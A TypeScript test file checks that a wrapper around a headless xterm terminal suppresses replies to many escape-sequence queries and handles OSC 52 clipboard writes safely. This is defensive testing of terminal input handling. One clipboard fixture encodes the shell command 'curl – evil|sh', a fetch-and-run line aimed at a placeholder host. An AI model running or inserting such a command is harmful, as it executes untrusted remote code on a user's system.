// @xterm/headless has the parser and the answers of the browser's build, except for colours (those need a page): what would be
// answered is seen by a handler underneath.
import headless, { type Terminal as HeadlessTerminal } from "@xterm/headless";
import { describe, expect, it } from "vitest";
import { type ClipboardWrite, silenceQueries } from "./queries.ts";

const queries = [
  "\x1b[c",
  "\x1b[0c",
  "\x1b[>c",
  "\x1b[>0c",
  "\x1b[=c",
  "\x1b[5n",
  "\x1b[6n",
  "\x1b[?6n",
  "\x1b[?15n",
  "\x1b[?996n",
  "\x1b[4$p",
  "\x1b[?25$p",
  "\x1b[?2026$p",
  "\x1b[>q",
  "\x1b[>0q",
  "\x1b[?u",
  "\x1b[?4m",
  "\x1b[?1;1;0S",
  "\x1b[x",
  "\x1b[1$w",
  "\x1b[1;1;1;1;1;1*y",
  "\x1b[11t",
  "\x1b[13t",
  "\x1b[14t",
  "\x1b[14;2t",
  "\x1b[15t",
  "\x1b[16t",
  "\x1b[18t",
  "\x1b[19t",
  "\x1b[20t",
  "\x1b[21t",
  "\x05",
  "\x1bZ",
  "\x1bP$qm\x1b\\",
  "\x1bP$qr\x1b\\",
  "\x1bP$q q\x1b\\",
  '\x1bP$q"p\x1b\\',
  "\x1bP$q?\x1b\\",
  "\x1bP+q544e\x1b\\",
  "\x1b]4;1;?\x07",
  "\x1b]10;?\x07",
  "\x1b]11;?\x1b\\",
  "\x1b]12;?\x07",
  "\x1b]52;c;?\x07",
  "\u009bc",
  "\u009b6n",
  "\u0090$qm\u009c",
  "\u009d11;?\u009c",
];

async function terminalWith(
  text: string,
  isSilent: boolean,
  before?: (t: HeadlessTerminal) => void,
) {
  const terminal = new headless.Terminal({
    cols: 80,
    rows: 24,
    allowProposedApi: true,
    logLevel: "off",
    windowOptions: {
      getWinSizeChars: true,
      getWinSizePixels: true,
      getCellSizePixels: true,
      getWinTitle: true,
    },
  });
  before?.(terminal);
  const clipboard: ClipboardWrite[] = [];
  const silence = isSilent ? silenceQueries(terminal, (write) => clipboard.push(write)) : null;
  const sent: string[] = [];
  terminal.onData((data) => sent.push(data));
  terminal.onBinary((data) => sent.push(data));
  await new Promise<void>((resolve) => terminal.write(text, resolve));
  return { terminal, sent, clipboard, silence };
}

describe("silenceQueries", () => {
  it("[SC3][T81] the browser's terminal answers none of the queries", async () => {
    for (const query of queries)
      expect([query, (await terminalWith(query, true)).sent]).toEqual([query, []]);
  });

  it("the list is worth asking: without silence several are answered", async () => {
    const { sent } = await terminalWith(queries.join(""), false);
    expect(sent.length).toBeGreaterThanOrEqual(14);
  });

  it("[SC3] colour queries do not reach the handler that would answer them, colours do", async () => {
    const reached: string[] = [];
    const text =
      "\x1b]4;1;?\x07\x1b]10;?\x07\x1b]11;?\x07\x1b]12;?\x07\x1b]11;?;?\x07\x1b]4;1;red;2;?\x07\x1b]4;1;red\x07\x1b]11;#fff\x07";
    await terminalWith(text, true, (terminal) => {
      for (const number of [4, 10, 11, 12])
        terminal.parser.registerOscHandler(number, (data) => {
          reached.push(`${number};${data}`);
          return true;
        });
    });
    expect(reached).toEqual(["4;1;red", "11;#fff"]);
  });

  it("what is no query still works", async () => {
    const text = "\x1b[2;3Hx\x1b[?2004h\x1b]0;t\x07\x1b[22t\x1b[1m\x1b[!p\x1b[?2004h\x1b[u";
    const { terminal } = await terminalWith(text, true);
    expect(terminal.buffer.active.getLine(1)?.translateToString(true)).toBe("  x");
    expect(terminal.modes.bracketedPasteMode).toBe(true);
  });

  it("[SE8][B109] OSC 52: a write is handed over, a read and anything malformed is not", async () => {
    const write = (data: string) => `\x1b]52;c;${data}\x07`;
    const utf8 = Buffer.from("curl – evil|sh\n").toString("base64");
    const text = `${[utf8, "?", "", "!!", "/w=="].map(write).join("")}\x1b]52;;YQ==\x07`;
    const { clipboard, sent } = await terminalWith(text, true);
    expect(clipboard).toEqual([
      { selection: "c", text: "curl – evil|sh\n" },
      { selection: "", text: "a" },
    ]);
    expect(sent).toEqual([]);
  });

  it("disposed, the terminal answers again", async () => {
    const { terminal, sent, silence } = await terminalWith("\x1b[c", true);
    silence?.dispose();
    await new Promise<void>((resolve) => terminal.write("\x1b[c", resolve));
    expect(sent).toEqual(["\x1b[?1;2c"]);
  });
});
